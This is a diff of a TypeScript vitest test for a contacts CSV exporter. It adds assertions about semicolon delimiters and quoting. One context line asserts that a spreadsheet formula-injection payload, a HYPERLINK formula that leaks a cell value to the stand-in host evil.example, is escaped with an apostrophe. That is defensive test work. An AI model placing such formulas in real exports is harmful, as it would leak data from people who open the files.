@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { contactsCsv } from './contacts-csv';
+import { contactsCsv } from './contacts-csv.js';
 
 const contact = (name: string, email = '') => ({ name, number: '5511999990001', email });
 
@@ -16,10 +16,12 @@ describe('contactsCsv', () => {
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Click me"")"`);
   });
 
-  it('leaves ordinary values as they are', () => {
+  it('leaves ordinary values as they are, joined with semicolons, quoting what needs it', () => {
     const csv = contactsCsv([contact('Maria Silva', 'maria@exemplo.com.br'), contact('João; "Jr"')]);
     expect(csv).toBe(
       'name;number;email\r\nMaria Silva;5511999990001;maria@exemplo.com.br\r\n"João; ""Jr""";5511999990001;',
     );
+    expect(contactsCsv([{ name: 'A;B', number: '55', email: '' }])).toBe('name;number;email\r\n"A;B";55;');
+    expect(contactsCsv([{ name: 'A;B', number: '55', email: '' }], false)).toBe('"A;B";55;');
   });
 });
